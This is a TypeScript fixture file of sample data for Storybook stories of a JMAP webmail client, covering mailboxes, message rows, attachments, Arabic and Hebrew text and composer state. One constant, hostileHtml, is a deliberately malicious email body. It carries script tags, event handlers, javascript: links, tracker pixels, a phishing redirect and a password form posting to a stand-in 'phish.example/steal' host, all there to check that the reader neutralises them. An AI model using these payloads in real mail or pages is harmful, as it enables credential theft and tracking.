import { Capability } from '@colibri/jmap-types';
import type { EmailAddress, EmailBodyPart, Id, Identity, Session } from '@colibri/jmap-types';
import type { ComposeAccount } from '../features/compose/api/get-compose-account';
import { composeKeys } from '../features/compose/api/keys';
import { emptyContent } from '../features/compose/lib/draft';
import type { DraftContent } from '../features/compose/lib/draft';
import type { Composer } from '../features/compose/stores/composer-store';
import type { Conversation, ConversationItem } from '../features/mail/api/conversation-query';
import type { EmailDetail } from '../features/mail/api/get-email';
import type { MailboxSummary } from '../features/mail/api/get-mailboxes';
import type { EmailListData, EmailListItem } from '../features/mail/lib/email-window';
import type { SearchResult } from '../features/search/api/search-emails';
import { mergeWindow } from '../features/mail/lib/email-window';
import { testSession } from './fake-jmap';

/**
 * Sample data for the web app's stories: mailboxes, list rows, full emails (text, HTML, hostile
 * HTML, right-to-left) and conversations. Shaped as the JMAP answers the components cache, so a
 * story shows what the app shows for the same server data. Dates are fixed: a story must look
 * the same on every run (visual review, the render check in stories.test.tsx).
 */

export const STORY_ACCOUNT_ID: Id = 'A1';

/** The test session, with the mail and submission capabilities the composer reads its limits from. */
/**
 * Every blob of a story is this picture (a data: URL, with the blob's name written on it), and
 * uploads go to the Storybook server, which refuses them: stories reach no other host.
 */
const STORY_BLOB_URL =
  "data:image/svg+xml;charset=utf-8,%3Csvg xmlns='http://www.w3.org/2000/svg' width='160' height='100'%3E" +
  "%3Crect width='160' height='100' fill='%23b9d7d7'/%3E%3Ctext x='8' y='56' font-size='11'%3E{name}%3C/text%3E" +
  '%3C/svg%3E#{accountId}/{blobId}/{type}';

export const storySession: Session = {
  ...testSession,
  downloadUrl: STORY_BLOB_URL,
  uploadUrl: '/story-upload/{accountId}/',
  accounts: {
    [STORY_ACCOUNT_ID]: {
      name: 'alice@colibri.test',
      isPersonal: true,
      isReadOnly: false,
      accountCapabilities: {
        [Capability.Mail]: {
          maxMailboxesPerEmail: null,
          maxMailboxDepth: 10,
          maxSizeMailboxName: 255,
          maxSizeAttachmentsPerEmail: 50_000_000,
          emailQuerySortOptions: ['receivedAt'],
          mayCreateTopLevelMailbox: true,
        },
        [Capability.Submission]: { maxDelayedSend: 30 * 86_400, submissionExtensions: {} },
      },
    },
  },
};

/** Right-to-left samples: subjects, names and bodies in Arabic and Hebrew. */
export const rtl = {
  arabicName: 'مريم الحسن',
  arabicSubject: 'اجتماع الفريق يوم الخميس: جدول الأعمال والمحضر',
  arabicBody:
    'مرحباً بالجميع،\n\nنلتقي يوم الخميس الساعة العاشرة صباحاً في القاعة الكبرى. يرجى مراجعة جدول الأعمال المرفق قبل الاجتماع.\n\nمع أطيب التحيات،\nمريم',
  hebrewName: 'נועה כהן',
  hebrewSubject: 'סיכום הפגישה ותוכנית העבודה לרבעון הבא',
  hebrewBody:
    'שלום לכולם,\n\nמצורף סיכום הפגישה של היום. נא לעבור על המשימות שלכם עד יום ראשון.\n\nתודה,\nנועה',
};

const longText = (words: number) =>
  Array.from({ length: words }, (_, i) => ['quarterly', 'figures', 'board', 'meeting'][i % 4]).join(' ');

export const longSubject = `Re: Fwd: Re: ${longText(40)} — please read before Thursday`;
export const longName =
  'Maximilian Alexander Konstantin von Hohenzollern-Sigmaringen (Finance, Berlin office)';

export const people: Record<'ann' | 'bob' | 'carol' | 'maryam' | 'noa' | 'alice', EmailAddress> = {
  alice: { name: 'Alice Martin', email: 'alice@colibri.test' },
  ann: { name: 'Ann Lee', email: 'ann@example.org' },
  bob: { name: 'Bob Martin', email: 'bob@example.org' },
  carol: { name: null, email: 'carol@example.org' },
  maryam: { name: rtl.arabicName, email: 'maryam@example.org' },
  noa: { name: rtl.hebrewName, email: 'noa@example.org' },
};

/** `count` distinct recipients, for the "100 recipients" states. */
export const manyAddresses = (count: number): EmailAddress[] =>
  Array.from({ length: count }, (_, i) => ({
    name: `Recipient number ${i + 1}`,
    email: `r${i + 1}@example.org`,
  }));

const mailbox = (over: Partial<MailboxSummary> & Pick<MailboxSummary, 'id' | 'name'>): MailboxSummary => ({
  parentId: null,
  role: null,
  sortOrder: 10,
  totalEmails: 0,
  unreadEmails: 0,
  ...over,
});

export const storyMailboxes: MailboxSummary[] = [
  mailbox({ id: 'inbox', name: 'Inbox', role: 'inbox', sortOrder: 1, totalEmails: 1284, unreadEmails: 12 }),
  mailbox({ id: 'drafts', name: 'Drafts', role: 'drafts', sortOrder: 2, totalEmails: 3 }),
  mailbox({ id: 'sent', name: 'Sent', role: 'sent', sortOrder: 3, totalEmails: 512 }),
  mailbox({ id: 'archive', name: 'Archive', role: 'archive', sortOrder: 4, totalEmails: 9021 }),
  mailbox({ id: 'junk', name: 'Junk', role: 'junk', sortOrder: 5, totalEmails: 40, unreadEmails: 40 }),
  mailbox({ id: 'trash', name: 'Trash', role: 'trash', sortOrder: 6, totalEmails: 17 }),
  mailbox({ id: 'work', name: 'Work', totalEmails: 210, unreadEmails: 3 }),
  mailbox({ id: 'projects', name: 'Projects', parentId: 'work', totalEmails: 88 }),
  mailbox({ id: 'colibri', name: 'Colibri', parentId: 'projects', totalEmails: 41, unreadEmails: 2 }),
  mailbox({ id: 'family', name: 'Family', totalEmails: 64 }),
  mailbox({ id: 'rtl', name: 'مشاريع العائلة', totalEmails: 9, unreadEmails: 1 }),
];

/** A folder name long enough to be cut, for the long-content states. */
export const longNameMailboxes: MailboxSummary[] = [
  ...storyMailboxes,
  mailbox({
    id: 'long',
    name: `Receipts and invoices ${longText(12)}`,
    totalEmails: 4,
    unreadEmails: 99_999,
  }),
];

export const inbox = storyMailboxes[0]!;
export const workFolder = storyMailboxes.find((m) => m.id === 'work')!;

const FIRST_DATE = Date.parse('2026-11-20T09:30:00Z');

/** A row of the message list; `index` orders them newest first, one hour apart. */
export function listEmail(index: number, over: Partial<EmailListItem> = {}): EmailListItem {
  const senders = [people.ann, people.bob, people.carol, people.maryam, people.noa];
  return {
    id: `e${index}`,
    threadId: `t${index}`,
    mailboxIds: { inbox: true },
    from: [senders[index % senders.length]!],
    subject: `Weekly update ${index}`,
    preview: 'Here is what happened this week: the release went out, two bugs were fixed and the',
    receivedAt: new Date(FIRST_DATE - index * 3_600_000).toISOString(),
    keywords: index % 3 === 0 ? {} : { $seen: true },
    hasAttachment: index % 4 === 1,
    ...over,
  };
}

/** The list cache entry for these rows; `total` beyond them leaves the rest not yet loaded. */
export function listData(emails: EmailListItem[], total = emails.length): EmailListData {
  return mergeWindow(undefined, {
    position: 0,
    ids: emails.map((e) => e.id),
    emails,
    total,
    queryState: 'q1',
  });
}

export const sampleRows: EmailListItem[] = [
  listEmail(0, { keywords: {}, subject: 'Lunch on Friday?' }),
  listEmail(1, { keywords: { $seen: true, $flagged: true }, hasAttachment: true }),
  listEmail(2, { from: [people.maryam], subject: rtl.arabicSubject, preview: rtl.arabicBody }),
  listEmail(3, { from: [people.noa], subject: rtl.hebrewSubject, preview: rtl.hebrewBody }),
  listEmail(4, { subject: null, preview: '' }),
  ...Array.from({ length: 15 }, (_, i) => listEmail(i + 5)),
];

export const longRows: EmailListItem[] = Array.from({ length: 20 }, (_, i) =>
  listEmail(i, {
    from: [{ name: longName, email: 'max@example.org' }],
    subject: longSubject,
    preview: longText(60),
    hasAttachment: true,
    keywords: { $flagged: true },
  }),
);

/** A list row written right to left. */
export const rightToLeftRow = (from: EmailAddress, subject: string, preview: string, index = 0) =>
  listEmail(index, { from: [from], subject, preview });

export const rtlRows: EmailListItem[] = Array.from({ length: 8 }, (_, i) =>
  i % 2
    ? rightToLeftRow(people.noa, rtl.hebrewSubject, rtl.hebrewBody, i)
    : rightToLeftRow(people.maryam, rtl.arabicSubject, rtl.arabicBody, i),
);

const bodyPart = (partId: string, type: string, over: Partial<EmailBodyPart> = {}): EmailBodyPart => ({
  partId,
  blobId: null,
  size: 1_000,
  name: null,
  type,
  charset: 'utf-8',
  disposition: null,
  cid: null,
  language: null,
  location: null,
  ...over,
});

/** A downloadable attachment part. */
export function attachment(name: string, type: string, size: number, index = 0): EmailBodyPart {
  return bodyPart(`a${index}`, type, { blobId: `blob-${index}`, name, size, disposition: 'attachment' });
}

export const sampleAttachments: EmailBodyPart[] = [
  attachment('Quarterly report.pdf', 'application/pdf', 482_000, 1),
  attachment(
    'budget-2027.xlsx',
    'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    38_000,
    2,
  ),
  attachment('site-photo.jpg', 'image/jpeg', 2_400_000, 3),
  attachment('archive.zip', 'application/zip', 48_000_000, 4),
];

export const manyAttachments: EmailBodyPart[] = Array.from({ length: 30 }, (_, i) =>
  attachment(
    `Scan ${i + 1} of the signed contract, annex ${longText(6)}.pdf`,
    'application/pdf',
    120_000 * (i + 1),
    i + 10,
  ),
);

/** Authentication-Results as our SMTP server prepends them (RFC 8601). */
export const authResults = {
  pass: 'mx.colibri.test; dkim=pass header.d=example.org; spf=pass smtp.mailfrom=example.org; dmarc=pass header.from=example.org',
  fail: 'mx.colibri.test; dkim=fail header.d=example.org; spf=softfail smtp.mailfrom=example.org; dmarc=fail header.from=example.org',
  mixed:
    'mx.colibri.test; dkim=none; spf=neutral smtp.mailfrom=example.org; dmarc=temperror header.from=example.org',
};

/** Every trick a hostile mail tries; the reader must show none of it working. */
export const hostileHtml = `<html><head>
<style>body { background: url(https://tracker.example/bg.png) } .x { color: red }</style>
<link rel="stylesheet" href="https://tracker.example/style.css">
<script>alert('script ran')</script>
<meta http-equiv="refresh" content="0; url=https://phish.example/">
</head><body>
<h1 onclick="alert('handler ran')">Your account will be closed</h1>
<p>Please <a href="javascript:alert('link ran')">confirm your password</a> or
<a href="https://phish.example/login">log in here</a>.</p>
<img src="https://tracker.example/pixel.gif?u=alice" width="1" height="1" alt="">
<img src="https://cdn.example/logo.png" alt="Bank logo" width="120" height="40">
<iframe src="https://phish.example/frame"></iframe>
<form action="https://phish.example/steal"><input name="password" type="password"><button>Send</button></form>
<svg><script>alert('svg ran')</script></svg>
<video src="https://tracker.example/v.mp4" autoplay></video>
<div style="position:fixed;top:0;right:0;width:40%;background:#fee">A fixed overlay: it stays inside the frame</div>
</body></html>`;

export const richHtml = `<div style="font-family: Georgia, serif">
<p>Hi Alice,</p>
<p>The <b>launch plan</b> is attached. Highlights:</p>
<ul><li>Beta on <i>1 December</i></li><li>Public release in January</li></ul>
<table border="1" cellpadding="4"><tr><th>Team</th><th>Owner</th></tr><tr><td>Web</td><td>Ann</td></tr></table>
<p>See <a href="https://colibri.test/plan">the plan</a>.</p>
<blockquote type="cite">On Monday Bob wrote:<br>Can we move the beta?</blockquote>
</div>`;

let nextEmail = 100;

/** A message in full, as Email/get answers it for the reader. */
export function emailDetail(over: Partial<EmailDetail> & { text?: string; html?: string } = {}): EmailDetail {
  const { text, html, ...rest } = over;
  const id = rest.id ?? `d${nextEmail++}`;
  const parts: EmailDetail['htmlBody'] = [];
  const values: EmailDetail['bodyValues'] = {};
  const value = (v: string) => ({ value: v, isEncodingProblem: false, isTruncated: false });
  if (html !== undefined) {
    parts.push(bodyPart('h', 'text/html'));
    values.h = value(html);
  }
  const textPart = bodyPart('t', 'text/plain');
  values.t = value(text ?? 'Hello Alice,\n\nSee you on Friday.\n\nAnn');
  return {
    id,
    blobId: `blob-${id}`,
    threadId: `thread-${id}`,
    mailboxIds: { inbox: true },
    keywords: { $seen: true },
    sender: null,
    from: [people.ann],
    to: [people.alice],
    cc: null,
    replyTo: null,
    subject: 'Lunch on Friday?',
    sentAt: '2026-11-20T09:30:00Z',
    receivedAt: '2026-11-20T09:30:05Z',
    hasAttachment: false,
    htmlBody: html !== undefined ? parts : [textPart],
    textBody: [textPart],
    attachments: [],
    bodyValues: values,
    ...rest,
  };
}

/** The thread row of a full email, as the conversation's Email/get returns it. */
export function conversationItem(email: EmailDetail, preview = ''): ConversationItem {
  const { id, threadId, mailboxIds, keywords, from, to, cc, subject, sentAt, receivedAt, hasAttachment } =
    email;
  return {
    id,
    threadId,
    mailboxIds,
    keywords,
    from,
    to,
    cc,
    subject,
    sentAt,
    receivedAt,
    preview,
    hasAttachment,
  };
}

/** A conversation whose opened (and newest) message is the last of `emails`. */
export function conversationOf(emails: EmailDetail[], omitted = 0): Conversation {
  const opened = emails.at(-1)!;
  return {
    threadId: opened.threadId,
    items: emails.map((e) => conversationItem(e, e.bodyValues.t?.value.slice(0, 120) ?? '')),
    opened,
    omitted,
  };
}

export const storyIdentities: Identity[] = [
  {
    id: 'id1',
    name: 'Alice Martin',
    email: 'alice@colibri.test',
    replyTo: null,
    bcc: null,
    textSignature: 'Alice\nColibri team',
    htmlSignature: '',
    mayDelete: false,
  },
  {
    id: 'id2',
    name: 'Alice (support)',
    email: 'support@colibri.test',
    replyTo: null,
    bcc: null,
    textSignature: '',
    htmlSignature: '',
    mayDelete: true,
  },
];

export const storyComposeAccount: ComposeAccount = {
  session: storySession,
  accountId: STORY_ACCOUNT_ID,
  identities: storyIdentities,
  mailboxes: { drafts: 'drafts', sent: 'sent' },
  maxSizeUpload: 50_000_000,
  maxDelayedSend: 30 * 86_400,
  maxSizeAttachments: 50_000_000,
};

/** The compose feature's cache once the account is known: session, identities, Drafts and Sent. */
export const composeAccountQueries = [
  [composeKeys.session(), storySession],
  [composeKeys.identities(STORY_ACCOUNT_ID), storyIdentities],
  [composeKeys.mailboxRoles(STORY_ACCOUNT_ID), storyComposeAccount.mailboxes],
  [composeKeys.recentAddresses(STORY_ACCOUNT_ID), [people.ann, people.bob, people.maryam]],
] as const;

/** An open composer, ready to edit, as the store holds it. */
export function storyComposer(
  over: Partial<Omit<Composer, 'content'>> & { content?: Partial<DraftContent> } = {},
): Composer {
  const { content, ...rest } = over;
  return {
    id: 'story-composer',
    mode: 'new',
    sourceEmailId: null,
    status: 'ready',
    error: null,
    minimised: false,
    content: { ...emptyContent, identityId: storyIdentities[0]!.id, ...content },
    revision: 0,
    savedRevision: 0,
    draftEmailId: null,
    saving: false,
    sending: false,
    bodyKey: 1,
    ...rest,
  };
}

/** A search result: the row's email and, for a text search, its snippet with <mark>s. */
export function searchResult(index: number, snippet?: { subject?: string; preview?: string }): SearchResult {
  return {
    email: listEmail(index, { mailboxIds: { inbox: true, work: true } }),
    snippet: snippet && {
      emailId: `e${index}`,
      subject: snippet.subject ?? null,
      preview: snippet.preview ?? null,
    },
  };
}
